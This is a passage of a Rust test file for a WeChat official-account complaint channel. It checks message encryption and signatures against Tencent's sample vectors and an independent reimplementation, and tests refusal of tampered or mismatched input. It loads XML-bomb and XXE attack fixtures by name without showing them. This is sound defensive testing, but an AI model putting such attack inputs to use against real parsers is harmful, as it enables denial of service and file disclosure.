//! The WeChat official account channel against Tencent's published sample
//! vectors, against an encryption written independently in this file, and
//! against hostile input.

use tousu_channels::wechat::{self, Cipher, Message};

/// Plaintext pushes as Tencent sends them (`tests/fixtures/wechat/`).
mod fixture {
    pub const TEXT: &str = include_str!("fixtures/wechat/text.xml");
    pub const VOICE: &str = include_str!("fixtures/wechat/voice.xml");
    pub const VOICE_UNRECOGNIZED: &str = include_str!("fixtures/wechat/voice_unrecognized.xml");
    pub const IMAGE: &str = include_str!("fixtures/wechat/image.xml");
    pub const VIDEO: &str = include_str!("fixtures/wechat/video.xml");
    pub const SHORTVIDEO: &str = include_str!("fixtures/wechat/shortvideo.xml");
    pub const LOCATION: &str = include_str!("fixtures/wechat/location.xml");
    pub const LINK: &str = include_str!("fixtures/wechat/link.xml");
    pub const FILE: &str = include_str!("fixtures/wechat/file.xml");
    pub const EVENT_SUBSCRIBE: &str = include_str!("fixtures/wechat/event_subscribe.xml");
    pub const EVENT_PIC: &str = include_str!("fixtures/wechat/event_pic_sysphoto.xml");
    pub const BILLION_LAUGHS: &str = include_str!("fixtures/wechat/billion_laughs.xml");
    pub const XXE: &str = include_str!("fixtures/wechat/xxe.xml");
}

const OPENID: &str = "oX3Ze5Hq1f0TQ9m0sVYkR2l8aB4c";
const ACCOUNT: &str = "gh_3ad8c2f1e0b7";
const THREAD: &str = "wechat:openid:oX3Ze5Hq1f0TQ9m0sVYkR2l8aB4c";

/// Our own account's settings for the independent-implementation tests.
const TOKEN: &str = "tousu2025Token";
const AES_KEY: &str = "kWx3Ue7Gq9Zt2Lm5Pb8Rc1Hd4Jf6Ns0Ya3Vo7Ei2Tw9";
const APP_ID: &str = "wx7d3f5a9c2e1b4d60";

/// An encryption of the safe-mode payload written from the protocol
/// description alone: hand-written base64, hand-written PKCS#7 with 32-byte
/// blocks, CBC chaining done block by block over the `aes` crate's raw
/// AES-256, SHA-1 from the `sha1` crate. It shares no code with the module.
mod independent {
    use aes::Aes256;
    use aes::cipher::generic_array::GenericArray;
    use aes::cipher::{BlockDecrypt, BlockEncrypt, KeyInit};
    use sha1::{Digest, Sha1};

    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

    pub fn b64_encode(data: &[u8]) -> String {
        let mut out = String::new();
        for chunk in data.chunks(3) {
            let b1 = chunk.get(1).copied().unwrap_or(0);
            let b2 = chunk.get(2).copied().unwrap_or(0);
            let n = (u32::from(chunk[0]) << 16) | (u32::from(b1) << 8) | u32::from(b2);
            for i in 0..4 {
                if i <= chunk.len() {
                    out.push(char::from(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize]));
                } else {
                    out.push('=');
                }
            }
        }
        out
    }

    /// Decodes, dropping the leftover bits of the last character (the
    /// EncodingAESKey has 43 characters = 258 bits for a 256-bit key).
    pub fn b64_decode(s: &str) -> Vec<u8> {
        let (mut acc, mut bits, mut out) = (0u32, 0u32, Vec::new());
        for c in s.bytes().filter(|&c| c != b'=') {
            let v = ALPHABET.iter().position(|&a| a == c).expect("base64") as u32;
            acc = (acc << 6) | v;
            bits += 6;
            if bits >= 8 {
                bits -= 8;
                out.push((acc >> bits) as u8);
                acc &= (1 << bits) - 1;
            }
        }
        out
    }

    pub fn aes_key(encoding_aes_key: &str) -> [u8; 32] {
        b64_decode(encoding_aes_key).try_into().expect("32 bytes")
    }

    pub fn pkcs7_32(mut data: Vec<u8>) -> Vec<u8> {
        let pad = 32 - data.len() % 32;
        data.extend(std::iter::repeat_n(pad as u8, pad));
        data
    }

    /// CBC over raw AES blocks; `data` must already be a multiple of 16.
    pub fn cbc_encrypt(key: &[u8; 32], data: &[u8]) -> Vec<u8> {
        let aes = Aes256::new(GenericArray::from_slice(key));
        let mut prev: [u8; 16] = key[..16].try_into().unwrap();
        let mut out = Vec::new();
        for chunk in data.chunks(16) {
            let mut block = [0u8; 16];
            for i in 0..16 {
                block[i] = chunk[i] ^ prev[i];
            }
            let mut ga = GenericArray::from(block);
            aes.encrypt_block(&mut ga);
            prev = ga.into();
            out.extend_from_slice(&prev);
        }
        out
    }

    pub fn cbc_decrypt(key: &[u8; 32], data: &[u8]) -> Vec<u8> {
        let aes = Aes256::new(GenericArray::from_slice(key));
        let mut prev: [u8; 16] = key[..16].try_into().unwrap();
        let mut out = Vec::new();
        for chunk in data.chunks(16) {
            let mut ga = GenericArray::clone_from_slice(chunk);
            aes.decrypt_block(&mut ga);
            for i in 0..16 {
                out.push(ga[i] ^ prev[i]);
            }
            prev = chunk.try_into().unwrap();
        }
        out
    }

    /// random ‖ be32(len) ‖ msg ‖ app_id, unpadded.
    pub fn frame(random: &[u8; 16], msg: &[u8], app_id: &str) -> Vec<u8> {
        let mut p = random.to_vec();
        p.extend_from_slice(&(msg.len() as u32).to_be_bytes());
        p.extend_from_slice(msg);
        p.extend_from_slice(app_id.as_bytes());
        p
    }

    /// The `Encrypt` value of `msg` for `app_id`.
    pub fn seal(aes_key: &str, app_id: &str, random: &[u8; 16], msg: &str) -> String {
        let key = self::aes_key(aes_key);
        b64_encode(&cbc_encrypt(
            &key,
            &pkcs7_32(frame(random, msg.as_bytes(), app_id)),
        ))
    }

    /// Encrypts an already padded (possibly deliberately broken) plaintext.
    pub fn seal_raw(aes_key: &str, padded: &[u8]) -> String {
        b64_encode(&cbc_encrypt(&self::aes_key(aes_key), padded))
    }

    /// (message, AppID) of an `Encrypt` value.
    pub fn open(aes_key: &str, encrypt: &str) -> (String, String) {
        let plain = cbc_decrypt(&self::aes_key(aes_key), &b64_decode(encrypt));
        let pad = usize::from(*plain.last().unwrap());
        assert!((1..=32).contains(&pad), "pad {pad}");
        assert!(
            plain[plain.len() - pad..]
                .iter()
                .all(|&b| usize::from(b) == pad)
        );
        let body = &plain[..plain.len() - pad];
        let len = u32::from_be_bytes(body[16..20].try_into().unwrap()) as usize;
        let msg = String::from_utf8(body[20..20 + len].to_vec()).unwrap();
        let app_id = String::from_utf8(body[20 + len..].to_vec()).unwrap();
        (msg, app_id)
    }

    pub fn sha1_signature(parts: &[&str]) -> String {
        let mut v = parts.to_vec();
        v.sort();
        let digest = Sha1::digest(v.concat().as_bytes());
        digest.iter().map(|b| format!("{b:02x}")).collect()
    }

    /// The text between `<{tag}><![CDATA[` and `]]></{tag}>`, or of `<{tag}>`.
    pub fn element(xml: &str, tag: &str) -> String {
        let open = format!("<{tag}>");
        let close = format!("</{tag}>");
        let start = xml.find(&open).expect("open tag") + open.len();
        let end = start + xml[start..].find(&close).expect("close tag");
        let inner = &xml[start..end];
        inner
            .strip_prefix("<![CDATA[")
            .and_then(|s| s.strip_suffix("]]>"))
            .unwrap_or(inner)
            .to_owned()
    }
}

fn cipher() -> Cipher {
    Cipher::new(AES_KEY, APP_ID).expect("valid key")
}

/// What intake does with a safe-mode POST: signature, envelope, decryption,
/// parsing.
fn receive(envelope: &str, timestamp: &str, nonce: &str, msg_signature: &str) -> Message {
    let encrypt = wechat::encrypted_envelope(envelope).expect("envelope");
    assert!(
        wechat::verify_msg_signature(TOKEN, timestamp, nonce, &encrypt, msg_signature),
        "msg_signature"
    );
    let xml = cipher().decrypt(&encrypt).expect("decrypt");
    wechat::parse_message(&xml).expect("parse")
}

/// Tencent's side of a safe-mode push of `xml`, done independently.
fn push(xml: &str, random: &[u8; 16], timestamp: &str, nonce: &str) -> (String, String) {
    let encrypt = independent::seal(AES_KEY, APP_ID, random, xml);
    let sig = independent::sha1_signature(&[TOKEN, timestamp, nonce, &encrypt]);
    let envelope = format!(
        "<xml>\n<ToUserName><![CDATA[{ACCOUNT}]]></ToUserName>\n<Encrypt><![CDATA[{encrypt}]]></Encrypt>\n</xml>"
    );
    (envelope, sig)
}

// ---------------------------------------------------------------------------
// Tencent's published sample vectors.

/// Tencent's official-account encryption sample (Java `WXBizMsgCryptTest`,
/// as carried in chanjarster/weixin-java-tools,
/// weixin-java-common/src/test/java/me/chanjar/weixin/common/util/crypto/WxCryptUtilTest.java
/// `testAesEncrypt` / `testAesEncrypt2`): EncodingAESKey, AppID, the fixed
/// random string and the expected ciphertexts.
mod tencent_java {
    pub const KEY: &str = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG";
    pub const APP_ID: &str = "wxb11529c136998cb6";
    pub const RANDOM: &[u8; 16] = b"aaaabbbbccccdddd";
    pub const REPLY: &str = "我是中文abcd123";
    pub const AFTER: &str =
        "jn1L23DB+6ELqJ+6bruv21Y6MD7KeIfP82D6gU39rmkgczbWwt5+3bnyg5K55bgVtVzd832WzZGMhkP72vVOfg==";
    pub const REPLY2: &str = "<xml><ToUserName><![CDATA[oia2Tj我是中文jewbmiOUlr6X-1crbLOvLw]]></ToUserName><FromUserName><![CDATA[gh_7f083739789a]]></FromUserName><CreateTime>1407743423</CreateTime><MsgType><![CDATA[video]]></MsgType><Video><MediaId><![CDATA[eYJ1MbwPRJtOvIEabaxHs7TX2D-HV71s79GUxqdUkjm6Gs2Ed1KF3ulAOA9H1xG0]]></MediaId><Title><![CDATA[testCallBackReplyVideo]]></Title><Description><![CDATA[testCallBackReplyVideo]]></Description></Video></xml>";
    pub const AFTER2: &str = "jn1L23DB+6ELqJ+6bruv23M2GmYfkv0xBh2h+XTBOKVKcgDFHle6gqcZ1cZrk3e1qjPQ1F4RsLWzQRG9udbKWesxlkupqcEcW7ZQweImX9+wLMa0GaUzpkycA8+IamDBxn5loLgZpnS7fVAbExOkK5DYHBmv5tptA9tklE/fTIILHR8HLXa5nQvFb3tYPKAlHF3rtTeayNf0QuM+UW/wM9enGIDIJHF7CLHiDNAYxr+r+OrJCmPQyTy8cVWlu9iSvOHPT/77bZqJucQHQ04sq7KZI27OcqpQNSto2OdHCoTccjggX5Z9Mma0nMJBU+jLKJ38YB1fBIz+vBzsYjrTmFQ44YfeEuZ+xRTQwr92vhA9OxchWVINGC50qE/6lmkwWTwGX9wtQpsJKhP+oS7rvTY8+VdzETdfakjkwQ5/Xka042OlUb1/slTwo4RscuQ+RdxSGvDahxAJ6+EAjLt9d8igHngxIbf6YyqqROxuxqIeIch3CssH/LqRs+iAcILvApYZckqmA7FNERspKA5f8GoJ9sv8xmGvZ9Yrf57cExWtnX8aCMMaBropU/1k+hKP5LVdzbWCG0hGwx/dQudYR/eXp3P0XxjlFiy+9DMlaFExWUZQDajPkdPrEeOwofJb";
}

/// Tencent's official-account decryption sample (Python `Sample.py` by
/// jonyqin, 2014, as carried in charlesXu86/Chatbot_CN,
/// Chatbot_Web/impl/weixin/Sample.py): token, timestamp, nonce,
/// msg_signature and a compatibility-mode push whose plaintext fields sit
/// next to the `Encrypt` of the same message.
mod tencent_python {
    pub const KEY: &str = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG";
    pub const TOKEN: &str = "spamtest";
    pub const NONCE: &str = "1320562132";
    pub const APP_ID: &str = "wx2c2769f8efd9abc2";
    pub const TIMESTAMP: &str = "1409735669";
    pub const MSG_SIGNATURE: &str = "5d197aaffba7e9b25a30732f161a50dee96bd5fa";
    pub const FROM_XML: &str = "<xml><ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName><FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName><CreateTime>1409735668</CreateTime><MsgType><![CDATA[text]]></MsgType><Content><![CDATA[abcdteT]]></Content><MsgId>6054768590064713728</MsgId><Encrypt><![CDATA[hyzAe4OzmOMbd6TvGdIOO6uBmdJoD0Fk53REIHvxYtJlE2B655HuD0m8KUePWB3+LrPXo87wzQ1QLvbeUgmBM4x6F8PGHQHFVAFmOD2LdJF9FrXpbUAh0B5GIItb52sn896wVsMSHGuPE328HnRGBcrS7C41IzDWyWNlZkyyXwon8T332jisa+h6tEDYsVticbSnyU8dKOIbgU6ux5VTjg3yt+WGzjlpKn6NPhRjpA912xMezR4kw6KWwMrCVKSVCZciVGCgavjIQ6X8tCOp3yZbGpy0VxpAe+77TszTfRd5RJSVO/HTnifJpXgCSUdUue1v6h0EIBYYI1BD1DlD+C0CR8e6OewpusjZ4uBl9FyJvnhvQl+q5rv1ixrcpCumEPo5MJSgM9ehVsNPfUM669WuMyVWQLCzpu9GhglF2PE=]]></Encrypt></xml>";
}

#[test]
fn tencent_java_sample_ciphertexts_are_reproduced_and_decrypted() {
    use tencent_java::*;
    let cipher = Cipher::new(KEY, APP_ID).unwrap();
    assert_eq!(cipher.encrypt(REPLY, *RANDOM), AFTER);
    assert_eq!(cipher.decrypt(AFTER).unwrap(), REPLY);
    assert_eq!(cipher.encrypt(REPLY2, *RANDOM), AFTER2);
    assert_eq!(cipher.decrypt(AFTER2).unwrap(), REPLY2);
    // The independent implementation agrees with Tencent too, so the two
    // implementations tested against each other below share a ground truth.
    assert_eq!(independent::seal(KEY, APP_ID, RANDOM, REPLY), AFTER);
    assert_eq!(
        independent::open(KEY, AFTER2),
        (REPLY2.to_owned(), APP_ID.to_owned())
    );
    // The sample reply parses (its MediaId is nested in <Video>, so not ours).
    let m = wechat::parse_message(REPLY2).unwrap();
    assert_eq!(m.to_user, "oia2Tj我是中文jewbmiOUlr6X-1crbLOvLw");
    assert_eq!(m.from_user, "gh_7f083739789a");
    assert_eq!(m.create_time, 1_407_743_423);
    assert_eq!(m.msg_type, "video");
    assert_eq!(m.media_id, "");
}

#[test]
fn tencent_python_sample_push_verifies_and_decrypts() {
    use tencent_python::*;
    let encrypt = wechat::encrypted_envelope(FROM_XML).unwrap();
    assert!(encrypt.starts_with("hyzAe4OzmOMb") && encrypt.ends_with("hglF2PE="));
    assert!(wechat::verify_msg_signature(
        TOKEN,
        TIMESTAMP,
        NONCE,
        &encrypt,
        MSG_SIGNATURE
    ));
    assert_eq!(
        wechat::signature(&[TOKEN, TIMESTAMP, NONCE, &encrypt]),
        MSG_SIGNATURE
    );
    let cipher = Cipher::new(KEY, APP_ID).unwrap();
    let xml = cipher.decrypt(&encrypt).unwrap();
    let decrypted = wechat::parse_message(&xml).unwrap();
    // Compatibility mode: the clear fields of the envelope are the message.
    let clear = wechat::parse_message(FROM_XML).unwrap();
    assert_eq!(decrypted, clear);
    assert_eq!(decrypted.to_user, "gh_10f6c3c3ac5a");
    assert_eq!(decrypted.from_user, "oyORnuP8q7ou2gfYjqLzSIWZf0rs");
    assert_eq!(decrypted.create_time, 1_409_735_668);
    assert_eq!(decrypted.msg_type, "text");
    assert_eq!(decrypted.content, "abcdteT");
    assert_eq!(decrypted.msg_id, "6054768590064713728");
    assert_eq!(independent::open(KEY, &encrypt), (xml, APP_ID.to_owned()));

    // The same push checked against another account, or with the
    // signature of another request, is refused.
    let other = Cipher::new(KEY, tencent_java::APP_ID).unwrap();
    let err = other.decrypt(&encrypt).unwrap_err();
    assert_eq!(err.field, "Encrypt");
    assert!(err.message.contains("AppID mismatch"), "{err}");
    assert!(!wechat::verify_msg_signature(
        TOKEN,
        "1409735670",
        NONCE,
        &encrypt,
        MSG_SIGNATURE
    ));
    assert!(!wechat::verify_msg_signature(
        "pamtest",
        TIMESTAMP,
        NONCE,
        &encrypt,
        MSG_SIGNATURE
    ));
}

// ---------------------------------------------------------------------------
// Independent encryption ↔ module.

#[test]
fn independently_encrypted_text_complaint_is_received() {
    let (envelope, sig) = push(
        fixture::TEXT,
        b"Q7v2Lm9Xc4Tz1Rb8",
        "1763790001",
        "839201746",
    );
    let m = receive(&envelope, "1763790001", "839201746", &sig);
    assert_eq!(m.to_user, ACCOUNT);
    assert_eq!(m.from_user, OPENID);
    assert_eq!(m.create_time, 1_763_790_000);
    assert_eq!(m.msg_id, "24398765432101234");
    assert!(!m.is_event());
    let inbound = m.to_inbound().unwrap();
    assert_eq!(
        inbound.fields.description.as_deref(),
        Some(
            "你好，我11月20日在贵公司网店买的电饭煲（订单号 2025112012345）收到就不能加热，客服三天没回复。请尽快处理，电话 13812345678。"
        )
    );
    assert_eq!(inbound.fields.wechat_openid.as_deref(), Some(OPENID));
    assert_eq!(
        inbound.fields.channel_message_id.as_deref(),
        Some("24398765432101234")
    );
    assert_eq!(inbound.fields.title, None);
    // A phone number in free text is left for intake, never guessed here.
    assert_eq!(inbound.fields.phone, None);
    assert_eq!(inbound.thread_keys, [THREAD]);
    assert_eq!(inbound.reply_to, [THREAD]);
    assert!(inbound.tracking_refs.is_empty());
    assert!(inbound.attachments.is_empty());
    assert_eq!(inbound.extra("wechat_account"), Some(ACCOUNT));
    assert_eq!(inbound.extra("wechat_msg_type"), Some("text"));
    assert_eq!(inbound.extra("wechat_create_time"), Some("1763790000"));
    assert_eq!(inbound.extra("wechat_media_id"), None);
}

#[test]
fn every_message_type_survives_the_round_trip() {
    for (i, xml) in [
        fixture::TEXT,
        fixture::VOICE,
        fixture::VOICE_UNRECOGNIZED,
        fixture::IMAGE,
        fixture::VIDEO,
        fixture::SHORTVIDEO,
        fixture::LOCATION,
        fixture::LINK,
        fixture::FILE,
        fixture::EVENT_SUBSCRIBE,
        fixture::EVENT_PIC,
    ]
    .into_iter()
    .enumerate()
    {
        let random = [b'a' + i as u8; 16];
        let timestamp = (1_763_790_500 + i).to_string();
        let (envelope, sig) = push(xml, &random, &timestamp, "20251122");
        let via_aes = receive(&envelope, &timestamp, "20251122", &sig);
        assert_eq!(via_aes, wechat::parse_message(xml).unwrap(), "fixture {i}");
        assert_eq!(via_aes.to_user, ACCOUNT);
        assert_eq!(via_aes.from_user, OPENID);
    }
}

#[test]
fn module_reply_is_read_by_the_independent_side() {
    let reply = wechat::text_reply(
        OPENID,
        ACCOUNT,
        1_763_790_002,
        "您的投诉已受理，编号 TS20251122-000123，我们将在 2 个工作日内联系您。",
    );
    assert_eq!(
        reply,
        "<xml><ToUserName><![CDATA[oX3Ze5Hq1f0TQ9m0sVYkR2l8aB4c]]></ToUserName>\
         <FromUserName><![CDATA[gh_3ad8c2f1e0b7]]></FromUserName>\
         <CreateTime>1763790002</CreateTime><MsgType><![CDATA[text]]></MsgType>\
         <Content><![CDATA[您的投诉已受理，编号 TS20251122-000123，我们将在 2 个工作日内联系您。]]></Content></xml>"
    );
    let envelope = wechat::encrypted_reply(
        &cipher(),
        TOKEN,
        "1763790002",
        "1478523690",
        &reply,
        *b"r4Nd0mBytes16xyz",
    );
    let encrypt = independent::element(&envelope, "Encrypt");
    assert_eq!(
        independent::element(&envelope, "MsgSignature"),
        independent::sha1_signature(&[TOKEN, "1763790002", "1478523690", &encrypt])
    );
    assert_eq!(independent::element(&envelope, "TimeStamp"), "1763790002");
    assert_eq!(independent::element(&envelope, "Nonce"), "1478523690");
    assert_eq!(
        independent::open(AES_KEY, &encrypt),
        (reply.clone(), APP_ID.to_owned())
    );
    // And the ciphertext is exactly what the independent code makes from
    // the same random bytes.
    assert_eq!(
        encrypt,
        independent::seal(AES_KEY, APP_ID, b"r4Nd0mBytes16xyz", &reply)
    );
    // The module reads its own reply back as a message too.
    let back = wechat::parse_message(&cipher().decrypt(&encrypt).unwrap()).unwrap();
    assert_eq!(back.to_user, OPENID);
    assert_eq!(
        back.content,
        "您的投诉已受理，编号 TS20251122-000123，我们将在 2 个工作日内联系您。"
    );
}

#[test]
fn module_encryption_matches_the_independent_one_for_all_lengths() {
    // Every padding length 1..=32 is hit.
    let cipher = cipher();
    for len in 0..70 {
        let msg = "诉".repeat(len / 3) + &"x".repeat(len % 3);
        let random = [len as u8; 16];
        let ours = cipher.encrypt(&msg, random);
        assert_eq!(
            ours,
            independent::seal(AES_KEY, APP_ID, &random, &msg),
            "len {len}"
        );
        assert_eq!(cipher.decrypt(&ours).unwrap(), msg);
    }
}

// ---------------------------------------------------------------------------
// to_inbound for each message type.

fn inbound_of(xml: &str) -> tousu_channels::Inbound {
    wechat::parse_message(xml).unwrap().to_inbound().unwrap()
}

#[test]
fn voice_uses_the_recognition() {
    let inbound = inbound_of(fixture::VOICE);
    assert_eq!(
        inbound.fields.description.as_deref(),
        Some("快递员把包裹放在小区门口就走了，东西丢了，快递公司说不负责。")
    );
    assert_eq!(
        inbound.extra("wechat_media_id"),
        Some("Hk3p0W9xQ2mZr7VbT1sYc8Ld5Fg6Jn4Ae2Ku0Oi9Xw")
    );
    assert_eq!(inbound.extra("wechat_format"), Some("amr"));
    assert_eq!(inbound.thread_keys, [THREAD]);

    let inbound = inbound_of(fixture::VOICE_UNRECOGNIZED);
    assert_eq!(
        inbound.fields.description.as_deref(),
        Some("[语音] (no recognition) MediaId=Vq8Ue1Rt6Yw0Zi3Op5As7Df9Gh2Jk4Lx6Cv8Bn0Mm1")
    );
    assert_eq!(
        inbound.fields.channel_message_id.as_deref(),
        Some("24398765432101236")
    );
}

#[test]
fn image_video_and_shortvideo_describe_the_media() {
    let inbound = inbound_of(fixture::IMAGE);
    assert_eq!(
        inbound.fields.description.as_deref(),
        Some("[图片] http://mmbiz.qpic.cn/mmbiz_jpg/Xk2lq9b3T0pVwzE8/0")
    );
    assert_eq!(
        inbound.extra("wechat_pic_url"),
        Some("http://mmbiz.qpic.cn/mmbiz_jpg/Xk2lq9b3T0pVwzE8/0")
    );
    assert_eq!(
        inbound.extra("wechat_media_id"),
        Some("Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2Yz3Ab4")
    );
    assert_eq!(inbound.extra("wechat_msg_type"), Some("image"));

    let inbound = inbound_of(fixture::VIDEO);
    assert_eq!(
        inbound.fields.description.as_deref(),
        Some("[视频] MediaId=Vd1Vd2Vd3Vd4Vd5Vd6Vd7Vd8Vd9Vd0VdAVdBVdCVdD")
    );
    assert_eq!(
        inbound.extra("wechat_thumb_media_id"),
        Some("Th1Th2Th3Th4Th5Th6Th7Th8Th9Th0ThAThBThCThD")
    );

    let inbound = inbound_of(fixture::SHORTVIDEO);
    assert_eq!(
        inbound.fields.description.as_deref(),
        Some("[视频] MediaId=Sv1Sv2Sv3Sv4Sv5Sv6Sv7Sv8Sv9Sv0SvASvBSvCSvD")
    );
    assert_eq!(inbound.extra("wechat_msg_type"), Some("shortvideo"));
}

#[test]
fn location_fills_the_location_field() {
    let m = wechat::parse_message(fixture::LOCATION).unwrap();
    assert_eq!(
        (
            m.location_x.as_str(),
            m.location_y.as_str(),
            m.scale.as_str()
        ),
        ("23.134521", "113.358803", "20")
    );
    let inbound = m.to_inbound().unwrap();
    assert_eq!(
        inbound.fields.description.as_deref(),
        Some("[位置] 广东省广州市海珠区新港中路397号 (23.134521, 113.358803)")
    );
    assert_eq!(
        inbound.fields.location.as_deref(),
        Some("广东省广州市海珠区新港中路397号")
    );
    assert_eq!(
        inbound.extra("wechat_location"),
        Some("23.134521,113.358803")
    );
    assert_eq!(inbound.extra("wechat_scale"), Some("20"));
    // Without a label, the coordinates stand in for the place.
    let unlabeled = fixture::LOCATION.replace("<![CDATA[广东省广州市海珠区新港中路397号]]>", "");
    let inbound = inbound_of(&unlabeled);
    assert_eq!(
        inbound.fields.description.as_deref(),
        Some("[位置] (23.134521, 113.358803)")
    );
    assert_eq!(
        inbound.fields.location.as_deref(),
        Some("23.134521, 113.358803")
    );
}

#[test]
fn link_fills_the_title() {
    let inbound = inbound_of(fixture::LINK);
    assert_eq!(inbound.fields.title.as_deref(), Some("退款申请被拒截图"));
    assert_eq!(
        inbound.fields.description.as_deref(),
        Some(
            "[链接] 退款申请被拒截图 商家以“已拆封”为由拒绝七天无理由退货 https://mp.weixin.qq.com/s/3kT9xQ2mZr7VbT1sYc8Ld5"
        )
    );
    assert_eq!(
        inbound.extra("wechat_url"),
        Some("https://mp.weixin.qq.com/s/3kT9xQ2mZr7VbT1sYc8Ld5")
    );
}

#[test]
fn unknown_types_are_described_by_their_type() {
    let inbound = inbound_of(fixture::FILE);
    assert_eq!(
        inbound.fields.description.as_deref(),
        Some("[file] 购物发票.pdf 电子发票")
    );
    assert_eq!(inbound.extra("wechat_msg_type"), Some("file"));
    assert_eq!(inbound.fields.title, None);
    let bare = "<xml><ToUserName>gh_1</ToUserName><FromUserName>o1</FromUserName>\
                <CreateTime>1763790000</CreateTime><MsgType>miniprogrampage</MsgType>\
                <MsgId>1</MsgId></xml>";
    assert_eq!(
        inbound_of(bare).fields.description.as_deref(),
        Some("[miniprogrampage]")
    );
}

#[test]
fn events_are_not_complaints() {
    let m = wechat::parse_message(fixture::EVENT_SUBSCRIBE).unwrap();
    assert!(m.is_event());
    assert_eq!(m.event, "subscribe");
    assert_eq!(m.event_key, "qrscene_store_0427");
    assert_eq!(m.to_inbound(), None);
    // Nested event payloads (4 levels under <xml>) are accepted, not read.
    let m = wechat::parse_message(fixture::EVENT_PIC).unwrap();
    assert_eq!(
        (m.event.as_str(), m.event_key.as_str()),
        ("pic_sysphoto", "upload_evidence")
    );
    assert_eq!(m.to_inbound(), None);
}

#[test]
fn tracking_numbers_in_text_are_reported() {
    let xml = fixture::TEXT.replace(
        "你好，我11月20日",
        "关于投诉 ts20251122-000123 的补充：我11月20日",
    );
    assert_eq!(inbound_of(&xml).tracking_refs, ["TS20251122-000123"]);
}

#[test]
fn dedup_ids_for_messages_and_events() {
    let text = wechat::parse_message(fixture::TEXT).unwrap();
    assert_eq!(text.dedup_id(), "24398765432101234");
    let event = wechat::parse_message(fixture::EVENT_SUBSCRIBE).unwrap();
    assert_eq!(event.dedup_id(), "oX3Ze5Hq1f0TQ9m0sVYkR2l8aB4c:1763789940");
    // A later event of the same follower gets another id.
    let later = wechat::parse_message(fixture::EVENT_PIC).unwrap();
    assert_eq!(later.dedup_id(), "oX3Ze5Hq1f0TQ9m0sVYkR2l8aB4c:1763790420");
    // `MsgID` (as some pushes spell it) is the same element.
    let spelled = fixture::IMAGE.replace("MsgId>", "MsgID>");
    assert_eq!(
        wechat::parse_message(&spelled).unwrap().dedup_id(),
        "24398765432101237"
    );
    // A non-event without MsgId falls back to openid:CreateTime.
    let no_id = fixture::LINK.replace("<MsgId>24398765432101241</MsgId>", "");
    let inbound = inbound_of(&no_id);
    assert_eq!(
        inbound.fields.channel_message_id.as_deref(),
        Some("oX3Ze5Hq1f0TQ9m0sVYkR2l8aB4c:1763790300")
    );
}

// ---------------------------------------------------------------------------
// Signatures and timestamps.

#[test]
fn url_signature_right_wrong_and_tampered() {
    let (ts, nonce) = ("1763790000", "1986453027");
    let good = independent::sha1_signature(&[TOKEN, ts, nonce]);
    assert_eq!(wechat::signature(&[TOKEN, ts, nonce]), good);
    assert!(wechat::verify_signature(TOKEN, ts, nonce, &good));
    assert!(wechat::verify_signature(
        TOKEN,
        ts,
        nonce,
        &good.to_uppercase()
    ));
    assert!(!wechat::verify_signature(
        "tousu2025token",
        ts,
        nonce,
        &good
    ));
    assert!(!wechat::verify_signature(TOKEN, "1763790001", nonce, &good));
    assert!(!wechat::verify_signature(TOKEN, ts, "1986453028", &good));
    let mut tampered = good.clone().into_bytes();
    tampered[0] = if tampered[0] == b'0' { b'1' } else { b'0' };
    let tampered = String::from_utf8(tampered).unwrap();
    assert!(!wechat::verify_signature(TOKEN, ts, nonce, &tampered));
    assert!(!wechat::verify_signature(
        TOKEN,
        ts,
        nonce,
        &format!("{good}0")
    ));
    assert!(!wechat::verify_signature(TOKEN, ts, nonce, ""));
    assert!(!wechat::verify_signature(
        TOKEN,
        ts,
        nonce,
        &format!(" {good}")
    ));
}

#[test]
fn msg_signature_covers_the_ciphertext() {
    let (envelope, sig) = push(fixture::TEXT, b"0123456789abcdef", "1763790003", "77");
    let encrypt = wechat::encrypted_envelope(&envelope).unwrap();
    assert!(wechat::verify_msg_signature(
        TOKEN,
        "1763790003",
        "77",
        &encrypt,
        &sig
    ));
    // One flipped base64 character of the ciphertext breaks it.
    let flipped: String = encrypt
        .char_indices()
        .map(|(i, c)| {
            if i == 10 {
                if c == 'A' { 'B' } else { 'A' }
            } else {
                c
            }
        })
        .collect();
    assert_ne!(flipped, encrypt);
    assert!(!wechat::verify_msg_signature(
        TOKEN,
        "1763790003",
        "77",
        &flipped,
        &sig
    ));
    // The plain URL signature is not a msg_signature.
    let url_sig = wechat::signature(&[TOKEN, "1763790003", "77"]);
    assert!(!wechat::verify_msg_signature(
        TOKEN,
        "1763790003",
        "77",
        &encrypt,
        &url_sig
    ));
    assert!(!wechat::verify_msg_signature(
        TOKEN,
        "1763790004",
        "77",
        &encrypt,
        &sig
    ));
    assert!(!wechat::verify_msg_signature(
        "x",
        "1763790003",
        "77",
        &encrypt,
        &sig
    ));
}

#[test]
fn timestamps_more_than_five_minutes_off_are_stale() {
    let now = 1_763_790_000;
    assert!(wechat::timestamp_fresh("1763790000", now, 300));
    assert!(wechat::timestamp_fresh("1763789700", now, 300));
    assert!(wechat::timestamp_fresh("1763790300", now, 300));
    assert!(!wechat::timestamp_fresh("1763789699", now, 300));
    assert!(!wechat::timestamp_fresh("1763790301", now, 300));
    assert!(!wechat::timestamp_fresh("1409735669", now, 300));
    assert!(!wechat::timestamp_fresh("1763790000.5", now, 300));
    assert!(!wechat::timestamp_fresh(" 1763790000", now, 300));
    assert!(!wechat::timestamp_fresh("abc", now, 300));
}

// ---------------------------------------------------------------------------
// Decryption failures.

fn decrypt_err(encrypt: &str) -> String {
    let err = cipher().decrypt(encrypt).unwrap_err();
    assert_eq!(err.field, "Encrypt");
    err.message
}

#[test]
fn wrong_app_id_is_refused() {
    let encrypt = independent::seal(
        AES_KEY,
        "wx0000000000000000",
        b"abcdefghijklmnop",
        fixture::TEXT,
    );
    assert!(decrypt_err(&encrypt).contains("AppID mismatch"));
    // A prefix or extension of our AppID is not our AppID.
    let encrypt = independent::seal(AES_KEY, &APP_ID[..17], b"abcdefghijklmnop", fixture::TEXT);
    assert!(decrypt_err(&encrypt).contains("AppID mismatch"));
    let encrypt = independent::seal(
        AES_KEY,
        &format!("{APP_ID}0"),
        b"abcdefghijklmnop",
